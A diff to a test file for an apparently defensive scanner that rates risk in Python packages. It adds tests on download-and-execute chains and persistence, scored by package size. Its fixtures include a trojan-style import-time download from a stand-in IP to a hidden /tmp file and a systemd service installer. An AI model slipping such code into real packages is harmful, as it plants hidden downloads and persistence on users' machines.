@@ -13,9 +13,9 @@ from __future__ import annotations
 import json
 
 from app.core.archive import open_artifact
+from app.core.capabilities.corroboration import LARGE_PACKAGE, MID_PACKAGE
 from app.core.capabilities.risk import score
 from app.core.capabilities.scan import scan_artifact
-from app.core.capabilities.threats import LARGE_PACKAGE
 from app.core.diff.capabilities import pair_hits
 from tests.core.archive.fixtures import make_wheel
 
@@ -61,6 +61,50 @@ def test_the_same_chain_in_a_small_package_stays_high(tmp_path):
     res = _scan(tmp_path, 3, {"kit/browser.py": DOWNLOADER})
     assert res.risk.level in ("high", "critical")
     assert _threat(res, "chain.download_execute").severity in ("high", "critical")
+
+
+def test_a_chain_only_a_user_starts_needs_corroboration_from_ten_modules(tmp_path):
+    """A CLI of a dozen modules that downloads a tool and starts it when asked: a feature."""
+    res = _scan(tmp_path, MID_PACKAGE - 2, {"kit/browser.py": DOWNLOADER})
+    assert res.code_files == MID_PACKAGE
+    assert res.risk.level == "medium"
+    chain = _threat(res, "chain.download_execute")
+    assert chain.severity == "medium"
+    assert "alone in its file" in chain.explanation
+    below = _scan(tmp_path, MID_PACKAGE - 3, {"kit/browser.py": DOWNLOADER}, sub="below")
+    assert below.risk.level in ("high", "critical")
+
+
+PERSISTENCE = b"""from pathlib import Path
+
+UNIT = "[Service]\\nExecStart=/usr/bin/kit-agent\\n"
+
+
+def install_service():
+    Path("/etc/systemd/system/kit-agent.service").write_text(UNIT)
+"""
+
+
+def test_a_service_installer_only_a_user_calls_is_medium_in_a_program(tmp_path):
+    res = _scan(tmp_path, MID_PACKAGE + 2, {"kit/service.py": PERSISTENCE})
+    assert _threat(res, "impact.persistence").severity == "medium"
+    assert res.risk.level == "medium"
+    small = _scan(tmp_path, 1, {"kit/service.py": PERSISTENCE}, sub="small")
+    assert _threat(small, "impact.persistence").severity in ("high", "critical")
+
+
+def test_a_payload_that_starts_itself_on_import_stays_high_below_fifty_modules(tmp_path):
+    """A trojanised copy of a real project: a download written to disk as the package is
+    imported, nothing else in the file. It runs on its own, so only size 50+ asks more."""
+    payload = (
+        b"import urllib.request\nurllib.request.urlretrieve('http://192.0.2.9/a', '/tmp/.a')\n"
+    )
+    res = _scan(tmp_path, 30, {"kit/__init__.py": payload})
+    assert _threat(res, "place.import_time").severity in ("high", "critical")
+    assert res.risk.level in ("high", "critical")
+    dropper = _scan(tmp_path, MID_PACKAGE + 5, {"kit/browser.py": DROPPER}, sub="dropper")
+    assert dropper.risk.level in ("high", "critical")
+    assert _threat(dropper, "chain.download_execute").severity in ("high", "critical")
 
 
 def test_a_place_beside_the_chain_corroborates_it_in_a_large_package(tmp_path):
